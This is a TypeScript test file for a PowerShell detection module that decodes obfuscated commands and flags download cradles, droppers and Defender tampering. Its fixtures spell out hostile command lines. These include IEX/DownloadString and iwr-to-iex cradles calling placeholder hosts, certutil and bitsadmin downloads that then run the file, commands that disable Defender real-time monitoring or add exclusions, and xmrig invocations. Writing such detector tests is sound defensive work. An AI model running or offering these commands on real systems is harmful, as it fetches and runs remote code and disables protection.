import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CoalEvent } from '../model/event.js';
import { commandLayers, decodeBase64Text, normaliseCommand, powershell } from './powershell.js';
import { evt, signalsOf } from './test-events.js';

function enc(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

function win(command: string): CoalEvent {
  return evt('exec', {
    host: { name: 'ws-07', os: { platform: 'windows' } },
    process: {
      pid: 4120,
      name: 'powershell.exe',
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      command_line: command,
    },
  });
}

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/x.ps1')";

test('every unambiguous prefix of -EncodedCommand, with -, / or an en dash, any case, is decoded', () => {
  for (const flag of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '/enc', '\u2013EnCoDeD', '-encodedcommand']) {
    const layers = commandLayers(`powershell.exe -NoP ${flag} ${enc('Get-Date')}`);
    assert.equal(layers.at(-1)?.text, 'Get-Date', flag);
    assert.match(layers.at(-1)?.technique ?? '', /UTF-16LE base64/);
  }
});

test('-ExecutionPolicy and other -e… parameters are not taken for -EncodedCommand', () => {
  assert.equal(commandLayers(`powershell -ExecutionPolicy ${enc('Get-Date')}`).length, 1);
  assert.equal(commandLayers('powershell -ep Bypass -File C:\\scripts\\backup.ps1').length, 1);
});

test('nested encodings are peeled, at most four deep', () => {
  let cmd = CRADLE;
  for (let i = 0; i < 6; i++) cmd = `powershell -enc ${enc(cmd)}`;
  const layers = commandLayers(cmd);
  assert.equal(Math.max(...layers.map((l) => l.depth)), 4);
});

test('inline FromBase64String with Unicode and UTF8 GetString is decoded', () => {
  const u = Buffer.from('xmrig.exe --donate-level 1', 'utf16le').toString('base64');
  const layers = commandLayers(
    `powershell "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${u}')))"`,
  );
  assert.equal(layers.at(-1)?.text, 'xmrig.exe --donate-level 1');
  const b = Buffer.from('Stop-Process -Name xmrig').toString('base64');
  assert.equal(
    commandLayers(`[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("${b}"))`).at(-1)?.text,
    'Stop-Process -Name xmrig',
  );
});

test('carets, backticks, split strings and char codes are removed, each named', () => {
  assert.deepEqual(normaliseCommand('p^o^w^e^r^s^h^e^l^l -w hidden'), {
    text: 'powershell -w hidden',
    techniques: ['caret insertion'],
  });
  assert.equal(normaliseCommand('I`E`X (iwr http://x/y)').text, 'IEX (iwr http://x/y)');
  assert.equal(normaliseCommand("& ('x'+'mr'+'ig') -o x").text, "& ('xmrig') -o x");
  assert.equal(normaliseCommand("[char[]](120,109,114)-join''").text, "'xmr'");
  assert.equal(normaliseCommand('[char]73+[char]69+[char]88').text, "'IEX'");
});

test('binary base64 is not a layer', () => {
  assert.equal(
    decodeBase64Text(Buffer.from([0xde, 0xad, 0xbe, 0xef, 0x01, 0x02, 0x03, 0x04]).toString('base64'), 1000),
    undefined,
  );
});

test('hostile input stays bounded and fast', () => {
  const start = process.hrtime.bigint();
  commandLayers(`powershell ${"'a'+".repeat(50_000)}${'^'.repeat(50_000)} -enc ${'A'.repeat(200_000)}`);
  commandLayers(`${'-e '.repeat(30_000)}`);
  assert.ok(Number(process.hrtime.bigint() - start) / 1e6 < 2000);
});

test('an encoded command is obfuscation (medium) showing the decoded text, and its cradle a strong dropper', () => {
  const out = signalsOf(powershell, win(`powershell.exe -w hidden -nop -enc ${enc(CRADLE)}`));
  const obf = out.find((s) => s.kind === 'obfuscation');
  assert.equal(obf?.strength, 'medium');
  assert.match(obf?.explanation ?? '', /-enc \(UTF-16LE base64\); decoded: IEX \(New-Object Net\.WebClient\)/);
  const dropper = out.find((s) => s.kind === 'dropper');
  assert.equal(dropper?.strength, 'strong');
  assert.match(dropper?.explanation ?? '', /download cradle.*in the decoded command/);
});

test('encoding inside encoding is strong obfuscation', () => {
  const out = signalsOf(powershell, win(`powershell -enc ${enc(`powershell -enc ${enc('Get-Date')}`)}`));
  assert.equal(out.find((s) => s.kind === 'obfuscation')?.strength, 'strong');
});

test('download cradles and downloaders', () => {
  const cases: Array<[string, string]> = [
    ['powershell iwr http://203.0.113.7/a.ps1 | iex', 'strong'],
    [
      'powershell Invoke-WebRequest http://x.example/m.exe -OutFile $env:TEMP\\m.exe; Start-Process $env:TEMP\\m.exe',
      'strong',
    ],
    ['certutil.exe -urlcache -split -f http://203.0.113.7/m.exe C:\\ProgramData\\m.exe', 'medium'],
    ['cmd /c certutil -urlcache -f http://x/m.exe m.exe && start m.exe', 'strong'],
    ['bitsadmin /transfer job /download /priority high http://x/m.exe C:\\Users\\Public\\m.exe', 'medium'],
  ];
  for (const [cmd, strength] of cases) {
    const d = signalsOf(powershell, win(cmd)).find((s) => s.kind === 'dropper');
    assert.equal(d?.strength, strength, cmd);
  }
});

test('Defender tampering from PowerShell is miner-tuning', () => {
  const off = signalsOf(powershell, win('powershell Set-MpPreference -DisableRealtimeMonitoring $true'));
  assert.equal(off.find((s) => s.kind === 'miner-tuning')?.strength, 'strong');
  const hide = signalsOf(
    powershell,
    win('powershell Add-MpPreference -ExclusionPath C:\\Users\\bob\\AppData\\Roaming\\svc'),
  );
  assert.equal(hide.find((s) => s.kind === 'miner-tuning')?.strength, 'strong');
  const admin = signalsOf(powershell, win('powershell Add-MpPreference -ExclusionPath D:\\SQLData'));
  assert.equal(admin.find((s) => s.kind === 'miner-tuning')?.strength, 'medium');
  assert.deepEqual(signalsOf(powershell, win('powershell Set-MpPreference -DisableRealtimeMonitoring $false')), []);
});

test('ordinary PowerShell and shell lines elsewhere give nothing', () => {
  for (const cmd of [
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1',
    'powershell Get-ChildItem -Recurse | Measure-Object',
    '"C:\\Program Files\\7-Zip\\7z.exe" a -mx9 backup.7z D:\\data',
    'C:\\Windows\\system32\\MpCmdRun.exe -Scan -ScanType 2',
  ])
    assert.deepEqual(signalsOf(powershell, win(cmd)), [], cmd);
  const linux = evt('exec', {
    process: { pid: 1, name: 'sh', command_line: 'echo `date`^x && grep -e Zm9vYmFyYmF6 f' },
  });
  assert.deepEqual(signalsOf(powershell, linux), []);
});

test('PowerShell escapes and a single string join are ordinary code, not obfuscation', () => {
  assert.deepEqual(signalsOf(powershell, win('powershell -Command "Write-Host \\"Done`n\\"; $a = \'x\' + \'y\'"')), []);
  assert.deepEqual(normaliseCommand("Write-Host ('Hello ' + 'world')").techniques, []);
});

test('the format operator and string-array -join are undone, each named, and what they hid is read', () => {
  assert.deepEqual(normaliseCommand(`("{2}{0}{1}" -f 'ke-Ex', 'pression' ,'Invo') $s`), {
    text: "'Invoke-Expression' $s",
    techniques: ['format operator'],
  });
  assert.deepEqual(normaliseCommand("& (( 'I', 'EX' ) -join '') (iwr http://x/y)"), {
    text: "& ('IEX') (iwr http://x/y)",
    techniques: ['string array join'],
  });
  assert.equal(normaliseCommand("& (-join ('xm','rig')) -o x").text, "& ('xmrig') -o x");
  // a format naming a piece that is not there, or with nothing to fill, is left as written
  assert.equal(normaliseCommand(`("{3}" -f 'a') x`).text, `("{3}" -f 'a') x`);
  assert.deepEqual(normaliseCommand(`Write-Host ("{0:N2}" -f 3.14)`).techniques, []);
  // the cradle behind a format-operator IEX is found
  const kinds = signalsOf(
    powershell,
    win(
      `powershell -w hidden -c & ("{1}{0}" -f 'ex','i') (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')`,
    ),
  ).map((s) => s.kind);
  assert.ok(kinds.includes('dropper'), kinds.join(', '));
  assert.ok(kinds.includes('obfuscation'), kinds.join(', '));
});

test('a cradle or Defender change on a line that hides nothing is read on any platform, in any case', () => {
  const cases: Array<[string, string]> = [
    ['iex (new-object net.webclient).downloadstring("http://x.example/a")', 'powershell:cradle'],
    ['IWR http://x.example/a -OutFile a.bin; Start-Process a.bin', 'powershell:cradle'],
    ['Invoke-RestMethod http://x.example/a | IEX', 'powershell:cradle'],
    ['irm http://x.example/a | iex', 'powershell:cradle'],
    ['Start-BitsTransfer http://x.example/a c:\\a', 'powershell:cradle'],
    ['CertUtil -urlcache http://x.example/a a', 'powershell:cradle'],
    ['bitsadmin /transfer j http://x.example/a c:\\a', 'powershell:cradle'],
    [
      '(New-Object -ComObject Msxml2.XMLHTTP).open("GET","http://x.example/a"); $x.DownloadFile("a")',
      'powershell:cradle',
    ],
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'powershell:defender'],
    ['add-mppreference -ExclusionPath C:\\Users\\Public\\', 'powershell:defender'],
  ];
  for (const platform of ['linux', 'windows'])
    for (const [line, by] of cases) {
      const e = evt('exec', {
        host: { name: 'h', os: { platform } },
        process: { pid: 1, name: 'x', command_line: line },
      });
      assert.ok(
        signalsOf(powershell, e).some((s) => s.by === by),
        `${platform}: ${line}`,
      );
    }
  const routine = evt('exec', { process: { pid: 1, name: 'ls', command_line: 'ls -la /var/www' } });
  assert.deepEqual(signalsOf(powershell, routine), []);
});
